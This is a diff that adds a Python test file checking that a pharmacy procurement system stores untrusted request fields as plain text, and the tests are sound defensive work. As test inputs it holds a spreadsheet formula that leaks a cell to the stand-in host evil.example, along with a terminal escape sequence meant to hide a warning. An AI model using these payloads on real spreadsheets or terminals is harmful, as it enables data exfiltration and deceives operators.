@@ -1,0 +1,69 @@
+"""What a request's sender wrote reaches the clerk as text, never as something that acts: a
+product name the clerk's spreadsheet would take for a formula, control characters a terminal
+would act on, a page form's id that could take the centre's message id, a number too long
+to read."""
+
+from __future__ import annotations
+
+import csv
+import json
+import uuid
+from pathlib import Path
+
+from edge.cli.procurement.watch import RequestCsv
+from edge.web.commands import is_form_id
+from edge.web.views.expiring import DEFAULT_DAYS, days_asked
+from sync.procurement_feed import parse_request
+
+TOPIC = "rxedge/v1/s1/g1/procurement/request"
+
+
+def request(**fields: object) -> bytes:
+    body = {
+        "request_id": str(uuid.uuid4()),
+        "created_at": "2026-12-06T09:00:00.000Z",
+        "site": "s1",
+        "gateway": "g1",
+        "gtin": "04012345123456",
+        "name": "Amoxicillin 500 mg",
+        "batch_hint": "",
+        "quantity": 6,
+        "unit": "pack",
+        "priority": "routine",
+        "reason": {"on_hand": 1, "on_order": 0, "reorder_point": 2, "par": 7},
+        "confirmed_by": "auto",
+        **fields,
+    }
+    return json.dumps(body).encode()
+
+
+def test_a_product_name_a_spreadsheet_would_run_is_written_as_text(tmp_path: Path) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Aspirin")'
+    sheet = RequestCsv(tmp_path / "requests.csv")
+    sheet.write(parse_request(TOPIC, request(name=formula, confirmed_by="@SUM(1+1)")), "now")
+    sheet.close()
+    with (tmp_path / "requests.csv").open(newline="", encoding="utf-8") as held:
+        (row,) = list(csv.DictReader(held))
+    assert row["name"] == "'" + formula and row["confirmed_by"] == "'@SUM(1+1)"
+    assert row["unit"] == "pack" and row["quantity"] == "6"
+
+
+def test_control_characters_cannot_hide_the_repeat_warning_on_a_terminal() -> None:
+    line = parse_request(TOPIC, request(unit="pack\r\x1b[2K", sent_again=3)).line()
+    assert line.startswith("sent again (3): not answered yet")
+    assert "\r" not in line and "\x1b" not in line and "\\r\\x1b[2K" in line
+
+
+def test_a_repeat_sent_as_2_0_is_still_a_repeat() -> None:
+    assert parse_request(TOPIC, request(sent_again=2.0)).repeat is not None
+
+
+def test_a_form_id_is_only_one_the_page_draws() -> None:
+    assert is_form_id(str(uuid.uuid4()))
+    for chosen in ("msg-0418", "x", str(uuid.uuid4()).upper(), "", "6f1c2a9e"):
+        assert not is_form_id(chosen), chosen
+
+
+def test_a_number_of_thousands_of_digits_in_a_page_query_is_refused_in_words() -> None:
+    days, problem = days_asked("9" * 5000)
+    assert days == DEFAULT_DAYS and "not a whole number" in problem
